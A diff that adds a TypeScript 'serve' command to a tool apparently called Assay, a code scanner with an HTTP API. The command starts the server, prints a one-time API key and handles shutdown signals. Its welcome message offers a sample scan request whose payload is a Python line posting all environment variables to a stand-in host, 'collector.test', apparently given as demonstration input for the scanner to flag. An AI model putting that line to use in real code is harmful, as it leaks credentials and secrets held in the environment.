@@ -1,0 +1,63 @@
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+import { startServer } from '../api/server.ts';
+import { CliError } from './cli-error.ts';
+import { exitCodes } from './exit-codes.ts';
+
+export interface ServeOptions {
+  readonly host: string;
+  readonly port: number;
+  readonly dataDir?: string;
+}
+
+/** Runs until a signal ends it. */
+export async function serve({ host, port, dataDir = defaultDataDir() }: ServeOptions): Promise<void> {
+  const apiKey = process.env.ASSAY_API_KEY;
+  const server = await startServer({ host, port, dataDir, ...(apiKey === undefined ? {} : { apiKey }) }).catch(
+    (error: unknown) => {
+      throw startError(error, host, port);
+    },
+  );
+  process.stdout.write(welcome(server.url, server.firstKey, dataDir));
+  const stopped = new Promise<NodeJS.Signals>((resolve) => {
+    process.once('SIGINT', resolve);
+    process.once('SIGTERM', resolve);
+  });
+  await stopped;
+  // A second signal is from someone who does not want to wait.
+  process.once('SIGINT', () => process.exit(exitCodes.interrupted));
+  process.once('SIGTERM', () => process.exit(exitCodes.interrupted));
+  await server.close();
+}
+
+function defaultDataDir(): string {
+  return join(process.env.XDG_DATA_HOME ?? join(homedir(), '.local', 'share'), 'assay');
+}
+
+function welcome(url: string, firstKey: string | undefined, dataDir: string): string {
+  const lines = [`Assay listens on ${url} (documentation: ${url}/docs); its data is in ${dataDir}`];
+  if (firstKey !== undefined)
+    lines.push('', `API key: ${firstKey}`, 'It is shown this once and stored as a hash only: keep it now.');
+  const key = firstKey ?? '$ASSAY_API_KEY';
+  const body = JSON.stringify({
+    content: 'import os, requests\nrequests.post("https://collector.test", data=dict(os.environ))\n',
+  });
+  lines.push(
+    '',
+    'Try it:',
+    '',
+    `curl -sS ${url}/api/v1/scan -H 'Content-Type: application/json' -H "X-API-Key: ${key}" -d '${body}'`,
+    '',
+  );
+  return `${lines.join('\n')}\n`;
+}
+
+function startError(error: unknown, host: string, port: number): unknown {
+  const { code } = error as NodeJS.ErrnoException;
+  if (code === 'EADDRINUSE')
+    return new CliError(`port ${port} on ${host} is in use; --port 0 picks a free one`, exitCodes.infrastructure);
+  if (code === 'EACCES')
+    return new CliError(`port ${port} on ${host} may not be used by this user`, exitCodes.infrastructure);
+  if (code === 'EADDRNOTAVAIL' || code === 'ENOTFOUND') return new CliError(`${host} is no address of this machine`);
+  return error;
+}
